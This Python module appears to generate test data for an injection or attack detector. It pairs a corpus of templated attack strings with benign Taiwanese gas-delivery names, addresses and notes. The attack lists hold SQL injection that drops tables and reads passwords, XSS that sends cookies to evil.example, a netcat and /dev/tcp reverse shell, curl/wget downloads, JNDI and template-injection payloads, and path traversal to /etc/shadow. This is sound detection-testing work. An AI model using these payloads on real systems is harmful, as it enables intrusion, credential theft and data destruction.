"""Texts to tell apart: attacks, made from pieces as tools make them, and what people of a gas company write."""

import base64
import random
from collections.abc import Iterator
from urllib.parse import quote

_PREFIXES = ["1", "1'", '1"', "1)", "1')", "1'))", "x'", "-1 ", "王小明'", "1%"]
_SQL = [
    " OR 1=1",
    " or 'a'='a",
    " AND 7=7",
    " or 3>2",
    " || 1=1",
    " and ascii(substring((select password from people limit 1),1,1))>64",
    " union select null,null,version()",
    " UNION ALL SELECT login, password_hash FROM people",
    " order by 12",
    " and (select count(*) from orders)>0",
    " or exists(select 1 from people)",
    "; drop table orders",
    "; select pg_sleep(5)",
    "; update people set role='admin'",
    "; insert into people(login) values('x')",
    "; delete from orders where 1=1",
    " and sleep(5)",
    " or pg_sleep(9)=0",
    " and 1=cast((select version()) as int)",
    " and extractvalue(1,concat(0x7e,version()))",
    " and updatexml(1,concat(0x7e,user()),1)",
    " or (case when 1=1 then 1 else 0 end)=1",
    " and 1 in (select 1)",
    " having 1=1",
    " waitfor delay '0:0:5'",
    "; exec xp_cmdshell('dir')",
    " into outfile '/tmp/x'",
    " and table_name in (select table_name from information_schema.tables)",
]
_SUFFIXES = ["", "--", " -- x", "#", "/*", ";--"]
_SCRIPTS = [
    "<script>{0}</script>",
    "<img src=x onerror={0}>",
    "<svg/onload={0}>",
    "<body onload={0}>",
    "<iframe src=javascript:{0}>",
    "<a href='javascript:{0}'>x</a>",
    "<details open ontoggle={0}>",
    "<input autofocus onfocus={0}>",
    "<math><mi xlink:href=javascript:{0}>",
    "<video><source onerror={0}>",
    "<object data=javascript:{0}>",
    "<form action=javascript:{0}><input type=submit>",
    '" onmouseover={0} x="',
    "' autofocus onfocus={0} y='",
    "javascript:{0}//",
    "<style>@import'http://evil.example/x.css';</style>",
    "<ScRiPt >{0}</sCrIpT>",
    "<img/src=`x`onerror={0}>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>",
    "<x onclick={0}>here",
    "data:text/html,<script>{0}</script>",
]
_CALLS = ["alert(1)", "alert`1`", "prompt(document.cookie)", "eval(name)", "fetch('//evil.example/'+document.cookie)"]
_FILES = [
    "etc/passwd",
    "etc/shadow",
    "proc/self/environ",
    "windows/win.ini",
    "var/log/auth.log",
    "app/config.py",
    "boot.ini",
]
_UPWARDS = ["../", "..\\", "....//", "..%2f", "%2e%2e/", "%2e%2e%2f", "..%252f", "..%c0%af", "..;/", "%uff0e%uff0e/"]
_COMMANDS = [
    "id",
    "whoami",
    "cat /etc/passwd",
    "uname -a",
    "curl http://evil.example/x",
    "wget http://evil.example/x -O /tmp/x",
    "ping -c 3 127.0.0.1",
    "nc -e /bin/sh 10.0.0.1 4444",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "ls -la /",
    "rm -rf /tmp/x",
    "nslookup evil.example",
    "python3 -c 'import os'",
    "cat${IFS}/etc/passwd",
    "powershell -enc AAAA",
]
_SEPARATORS = ["; {0}", "| {0}", "|| {0}", "&& {0}", "& {0}", "$({0})", "`{0}`", "\n{0}\n", "; {0} #", "x|{0}|x"]
_TEMPLATES = [
    "{{{{{0}}}}}",
    "${{{0}}}",
    "#{{{0}}}",
    "*{{{0}}}",
    "<%= {0} %>",
    "{{%print({0})%}}",
    "${{{{{0}}}}}",
    "@({0})",
    "{{{{ {0} | safe }}}}",
]
_EXPRESSIONS = ["7*7", "9*'9'", "1337*1337"]
_CLASSES = [
    "{{config.items()}}",
    "{{request.application.__globals__}}",
    "{{''.__class__.__mro__[1].__subclasses__()}}",
    "{{self.__init__.__globals__.__builtins__}}",
    "${T(java.lang.Runtime).getRuntime().exec('id')}",
    "${jndi:ldap://evil.example/a}",
    "#set($x=7*7)$x",
    "<#assign ex='freemarker.template.utility.Execute'?new()>${ex('id')}",
    "{{cycler.__init__.__globals__.os.popen('id').read()}}",
    "{% import os %}{{os.system('id')}}",
    "{php}echo 1;{/php}",
]


def _sql() -> Iterator[str]:
    for prefix in _PREFIXES:
        for statement in _SQL:
            for suffix in _SUFFIXES:
                yield f"{prefix}{statement}{suffix}"
    for statement in _SQL:
        yield f"1'{statement.replace(' ', '/**/')}--"
        yield f"1'{statement.replace(' ', chr(9))}-- "
        yield f"1'{statement.upper()}--"


def attacks() -> dict[str, list[str]]:
    """Return strings by kind of attack: plain, and encoded once more than they travel."""
    scripts = [script.format(call) for script in _SCRIPTS for call in _CALLS]
    paths = [up * depth + file for up in _UPWARDS for depth in (1, 3, 6) for file in _FILES]
    commands = [
        prefix + way.format(command) for prefix in ("", "1", "a.txt") for way in _SEPARATORS for command in _COMMANDS
    ]
    templates = [way.format(what) for way in _TEMPLATES for what in _EXPRESSIONS] + _CLASSES
    plain = {"sql": list(_sql()), "script": scripts, "path": paths, "command": commands, "template": templates}
    entities = ["".join(f"&#{ord(letter)};" for letter in script) for script in scripts]
    escaped = [script.replace("<", "\\u003c").replace(">", "\\x3e") for script in scripts if "<" in script]
    encoded = base64.b64encode(b"<script>alert(1)</script>").decode()
    plain["script"] += [*entities, *escaped, f"data:text/html;base64,{encoded}"]
    return {kind: [*texts, *(quote(text) for text in texts)] for kind, texts in plain.items()}


_FAMILY = "陳林黃張李王吳劉蔡楊許鄭謝洪郭邱曾廖賴徐周葉蘇莊呂江何蕭羅高潘簡朱鍾彭游詹胡施沈余盧梁趙顏柯翁魏孫戴"
_GIVEN = "志明淑芬俊傑美玲雅婷家豪怡君建宏惠如宗翰佳穎冠宇詩涵承恩品妤宥翔語彤雲山水月華國強秀英玉珍金龍寶"
_CITIES = [
    "臺北市大同區",
    "新北市板橋區",
    "桃園市中壢區",
    "臺中市西屯區",
    "臺南市安平區",
    "高雄市三民區",
    "花蓮縣吉安鄉",
]
_ROADS = ["民生西路", "中山北路二段", "四維三路", "忠孝東路五段", "成功一路", "和平路", "自由路", "光復南路"]
_NOTES = [
    "按電鈴後請等一下, 門口有狗 (會叫)",
    "1=1 巷口右轉, 看到紅色鐵門",
    "請 select 20kg 的, 不要 16kg",
    "瓦斯沒了! 急! 請在 12:00~13:00 送 & 收空桶",
    "先打電話 02-2555-1234 #12 or 0912-345-678",
    "「研發部」王先生收; 放 <研發部> 門口",
    "老闆說: 'O'Brien' 是他的英文名字",
    "B1/B2 停車場 -- 請走貨梯",
    "2 桶 20kg + 1 桶 4kg = 2,100 元",
    "管理員: 陳先生/林小姐 (擇一)",
    "地址 100% 正確, 導航會錯",
    "please call & wait; do not leave it outside",
    "Select the blue one from the list, or ask Mr. O'Brien.",
    "Don't ring the bell -- the baby's asleep",
    "Table 5 and table 6 are where the order by phone goes",
    "union hall, drop it off at the side door",
    "10/12 or 11/12, whichever is free; update me",
    "insert the key & turn left (twice)",
    "order #1234 & #1235: same address",
    "50% off? ask the boss; he's <not> sure",
    "C/O Smith & Sons, 3rd floor, Unit 4-B",
    "email: wang.ming+gas@example.com.tw",
    "https://maps.example.com/?q=25.05,121.51&z=17",
    "價格: $850/桶 (含稅) → 現金 or 轉帳",
    "A&D 餐廳, 後門進; 找阿明",
    'he said "leave it", so leave it',
    "cat lives here, and a dog; ring twice",
    "{緊急} 明天 08:00 前!!",
    "樓下是 7-11... 二樓才是",
]
AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148",
    "Mozilla/5.0 (X11; Linux x86_64; rv:143.0) Gecko/20100101 Firefox/143.0",
    "curl/8.14.1",
    "python-requests/2.32.5",
    "PostmanRuntime/7.49.0",
    "Dalvik/2.1.0 (Linux; U; Android 15; Pixel 9 Build/AP4A.250205.002)",
]


def benign(count: int = 20_000) -> list[str]:
    """Return names, addresses, notes and user agents, the same ones each time."""
    chance = random.Random(20)  # noqa: S311 - the same ones each time
    texts = [*_NOTES, *AGENTS, "O'Brien", "D'Angelo", "Ng'ang'a", "1=1 巷", "select", "Drop-in Café", "L'Été & Co."]
    while len(texts) < count:
        name = chance.choice(_FAMILY) + "".join(chance.choices(_GIVEN, k=chance.choice((1, 2, 2))))
        lane = f"{chance.randint(1, 300)} 巷 " if chance.random() < 0.4 else ""
        floor = chance.choice(
            ["", f" {chance.randint(2, 20)} 樓", f"之{chance.randint(1, 9)}", f" {chance.randint(2, 9)}F-1"]
        )
        address = f"{chance.choice(_CITIES)}{chance.choice(_ROADS)} {lane}{chance.randint(1, 400)} 號{floor}"
        note = f"{chance.choice(_NOTES)} {name}"
        texts += [name, f"{name}(先生)", address, note, f"{chance.choice(_NOTES)}\n{chance.choice(_NOTES)}"]
    return texts
